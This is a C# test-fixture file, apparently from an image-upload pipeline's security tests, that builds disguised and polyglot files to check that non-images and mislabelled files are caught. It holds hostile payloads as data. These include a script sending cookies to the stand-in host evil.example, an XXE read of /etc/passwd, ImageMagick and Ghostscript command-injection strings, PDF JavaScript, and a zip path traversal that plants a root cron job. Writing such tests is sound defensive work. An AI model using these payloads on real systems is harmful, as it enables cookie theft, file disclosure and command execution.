using System.IO.Compression;
using System.Text;

namespace ReviewPipeline.PipelineTests.Hostile;

/// <summary>What is no picture under a picture's name, pictures under another's, and files that are two things at once.</summary>
internal static class Disguises
{
    private const string Script = "<script>fetch('//evil.example/'+document.cookie)</script>";
    private static readonly string[] Endings = [".png", ".jpg", ".webp", ".avif", ".gif", ".tif", ""];

    public static IEnumerable<HostileFile> Make() => [.. NoPictures(), .. Lies(), .. Polyglots()];

    private static IEnumerable<HostileFile> NoPictures() =>
        from what in new (string Name, byte[] Bytes)[]
        {
            ("svg", Text($"<svg xmlns='http://www.w3.org/2000/svg' onload='alert(1)'>{Script}</svg>")),
            ("svg-with-a-declaration", Text($"<?xml version='1.0'?><!DOCTYPE svg [<!ENTITY x SYSTEM 'file:///etc/passwd'>]><svg>&x;{Script}</svg>")),
            ("svg-behind-a-mark", [0xEF, 0xBB, 0xBF, .. Text("<svg/>")]),
            ("svgz", Gzip(Text("<svg/>"))),
            ("html", Text($"<!DOCTYPE html><html>{Script}</html>")),
            ("html-with-spaces", Text($"\n\n   <html>{Script}")),
            ("javascript", Text("alert(document.domain)")),
            ("pdf", Text("%PDF-1.7\n1 0 obj<</OpenAction<</S/JavaScript/JS(app.alert(1))>>>>endobj")),
            ("zip", Zip()),
            ("executable", [(byte)'M', (byte)'Z', .. new byte[512]]),
            ("elf", [0x7F, (byte)'E', (byte)'L', (byte)'F', .. new byte[512]]),
            ("postscript", Text("%!PS\n(%pipe%id) (r) file")),
            ("mvg", Text("push graphic-context\nfill 'url(https://evil.example/\"|id\")'\npop graphic-context")),
            ("vips", [0x08, 0xF2, 0xA6, 0xB6, .. new byte[64]]),
            ("csv", Text("1,2,3\n4,5,6")),
            ("pnm", Text("P6 100000 100000 255\n")),
            ("bmp", [(byte)'B', (byte)'M', .. new byte[64]]),
            ("ico", [0, 0, 1, 0, 1, 0, .. new byte[64]]),
            ("psd", [.. "8BPS\0\u0001"u8, .. new byte[64]]),
            ("jxl", [0, 0, 0, 12, .. "JXL "u8, 0x0D, 0x0A, 0x87, 0x0A, .. new byte[64]]),
            ("mp4", BoxBombs.Box("ftyp", "isom\0\0\0\0isommp42"u8)),
            ("zeros", new byte[4096]),
            ("one-byte", [0x89]),
            ("nothing", []),
            ("png-mark-alone", [0x89, (byte)'P', (byte)'N', (byte)'G', 0x0D, 0x0A, 0x1A, 0x0A]),
            ("jpeg-mark-alone", [0xFF, 0xD8, 0xFF]),
        }
        from ending in Endings
        select new HostileFile("no picture", what.Name + ending, what.Bytes, isNoPicture: true);

    private static IEnumerable<HostileFile> Lies()
    {
        foreach (var (name, bytes) in WholeFiles.All)
        {
            var other = name.EndsWith(".png", StringComparison.Ordinal) ? ".jpg" : ".png";
            yield return new("lying name", name + other, bytes, isNoPicture: true);
            yield return new("lying name", name + ".html", bytes, isNoPicture: true);
            yield return new("lying type", name, bytes, isNoPicture: true) { ContentType = "text/html" };
            yield return new("lying type", name, bytes, isNoPicture: true) { ContentType = "image/svg+xml" };
        }
    }

    /// <summary>Pictures that decode and are something else too: they may be taken, and nobody is ever shown their bytes.</summary>
    private static IEnumerable<HostileFile> Polyglots()
    {
        var gif = WholeFiles.Named("plain.gif");
        yield return Polyglot("gif-and-javascript.gif", [.. gif, .. Text("*/=1;alert(document.domain)//")]);
        yield return Polyglot("gif-comment-javascript.gif", [.. gif[..^1], 0x21, 0xFE, 40, .. Text("*/=1;alert(1);/*".PadRight(40)), 0, 0x3B]);
        yield return Polyglot("png-and-html.png", [.. WholeFiles.Named("plain.png"), .. Text($"<html>{Script}</html>")]);
        yield return Polyglot("png-text-html.png", PngBuilder.Into(WholeFiles.Named("plain.png"), "tEXt", Text($"Comment\0<html>{Script}</html>")));
        yield return Polyglot("jpeg-and-zip.jpg", [.. WholeFiles.Named("plain.jpg"), .. Zip()]);
        yield return Polyglot("jpeg-and-pdf.jpg", [.. WholeFiles.Named("plain.jpg"), .. Text("%PDF-1.7\n1 0 obj<<>>endobj\ntrailer<<>>%%EOF")]);
        yield return Polyglot("jpeg-comment-pdf.jpg", [0xFF, 0xD8, 0xFF, 0xFE, 0, 12, .. Text("%PDF-1.7\n "), .. WholeFiles.Named("plain.jpg")[2..]]);
        yield return Polyglot("webp-and-html.webp", [.. WholeFiles.Named("lossy.webp"), .. Text($"<html>{Script}</html>")]);
        yield return Polyglot("tiff-and-zip.tif", [.. WholeFiles.Named("plain.tif"), .. Zip()]);
        yield return Polyglot("avif-and-html.avif", [.. WholeFiles.Named("plain.avif"), .. BoxBombs.Box("free", Text($"<html>{Script}</html>"))]);
        yield return Polyglot("two-jpegs.jpg", [.. WholeFiles.Named("plain.jpg"), .. WholeFiles.Named("progressive.jpg")]);
        yield return new("no picture", "pdf-and-jpeg.jpg", (byte[])[.. Text("%PDF-1.7\n"), .. WholeFiles.Named("plain.jpg")], isNoPicture: true);
        yield return new("no picture", "zip-and-png.png", (byte[])[.. Zip(), .. WholeFiles.Named("plain.png")], isNoPicture: true);
    }

    private static HostileFile Polyglot(string name, byte[] bytes) => new("polyglot", name, bytes);

    internal static byte[] Text(string text) => Encoding.UTF8.GetBytes(text);

    private static byte[] Gzip(byte[] content)
    {
        using var target = new MemoryStream();
        using (var gzip = new GZipStream(target, CompressionLevel.Fastest, leaveOpen: true))
        {
            gzip.Write(content);
        }

        return target.ToArray();
    }

    private static byte[] Zip()
    {
        using var target = new MemoryStream();
        using (var archive = new ZipArchive(target, ZipArchiveMode.Create, leaveOpen: true))
        {
            using var entry = archive.CreateEntry("../../etc/cron.d/evil").Open();
            entry.Write("* * * * * root id"u8);
        }

        return target.ToArray();
    }
}
